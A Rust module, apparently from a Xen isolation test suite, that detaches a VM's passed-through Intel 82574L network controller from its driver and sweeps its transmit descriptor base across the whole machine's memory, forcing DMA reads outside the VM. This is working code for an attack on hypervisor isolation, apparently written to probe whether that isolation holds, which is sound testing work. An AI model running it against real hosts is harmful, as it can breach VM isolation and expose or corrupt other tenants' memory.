//! netback's own network controller (Intel 82574L), turned against the machine's memory: its descriptors are said to lie where
//! they are not.

use std::fs::{self, OpenOptions};
use std::path::{Path, PathBuf};

use anyhow::Context as _;
use ennead_xen::probe::Mmio;

use crate::edu::enable;

/// Registers (Intel 82574 datasheet, chapter 10).
const BYTES: usize = 0x2_0000;
const TRANSMIT_CONTROL: usize = 0x400;
const BASE_LOW: usize = 0x3800;
const BASE_HIGH: usize = 0x3804;
const LENGTH: usize = 0x3808;
const HEAD: usize = 0x3810;
const TAIL: usize = 0x3818;
const ENABLE: u32 = 2;

const MIB: u64 = 1 << 20;
/// Between two addresses that are tried.
const STEP: u64 = 16 * MIB;

/// The controller, without its driver.
#[derive(Debug)]
pub struct Nic {
    registers: Mmio,
}

/// The VM's only PCI function.
fn function() -> anyhow::Result<PathBuf> {
    let mut all = fs::read_dir("/sys/bus/pci/devices").context("This VM has no PCI bus")?;
    let first = all.next().context("This VM has no PCI function")??;
    Ok(first.path())
}

/// Pages of I/O memory that this VM has been given: those of its function's BARs.
///
/// # Errors
/// When it has no function.
pub fn own_pages() -> anyhow::Result<usize> {
    let text = fs::read_to_string(function()?.join("resource"))?;
    let pages = |line: &str| -> Option<u64> {
        let mut words =
            line.split_ascii_whitespace().map(|word| u64::from_str_radix(word.trim_start_matches("0x"), 16));
        let (start, end, flags) = (words.next()?.ok()?, words.next()?.ok()?, words.next()?.ok()?);
        // IORESOURCE_MEM (linux/ioport.h).
        (flags & 0x200 != 0).then_some((end - start + 1).div_ceil(4096))
    };
    // The seventh is the expansion ROM's, which pciback does not lend.
    Ok(usize::try_from(text.lines().take(6).filter_map(pages).sum::<u64>())?)
}

impl Nic {
    /// Takes it from its driver.
    ///
    /// # Errors
    /// When that cannot be.
    pub fn take() -> anyhow::Result<Self> {
        let folder = function()?;
        let name = folder.file_name().context("no name")?.to_string_lossy().into_owned();
        if Path::exists(&folder.join("driver")) {
            fs::write(folder.join("driver/unbind"), name)
                .context("Cannot take the controller from its driver")?;
        }
        let open = |name: &str| {
            let path = folder.join(name);
            OpenOptions::new().read(true).write(true).open(&path).with_context(|| path.display().to_string())
        };
        enable(&open("config")?).context("Cannot write to PCI configuration space")?;
        let registers = Mmio::map(&open("resource0")?, BYTES).context("Cannot map the registers")?;
        Ok(Self { registers })
    }

    /// Has it read descriptors all over a machine of so many MiB; gives how often.
    ///
    /// # Errors
    /// When it has no such registers.
    pub fn sweep(&self, machine_mib: u64) -> anyhow::Result<u32> {
        let mut times = 0;
        for address in (STEP..machine_mib * MIB).step_by(usize::try_from(STEP)?) {
            self.registers.write32(TRANSMIT_CONTROL, 0)?;
            self.registers.write32(BASE_LOW, u32::try_from(address & 0xffff_ffff)?)?;
            self.registers.write32(BASE_HIGH, u32::try_from(address >> 32)?)?;
            self.registers.write32(LENGTH, 4096)?;
            self.registers.write32(HEAD, 0)?;
            self.registers.write32(TRANSMIT_CONTROL, ENABLE)?;
            self.registers.write32(TAIL, 1)?;
            times += 1;
            std::thread::sleep(std::time::Duration::from_millis(10));
        }
        Ok(times)
    }
}
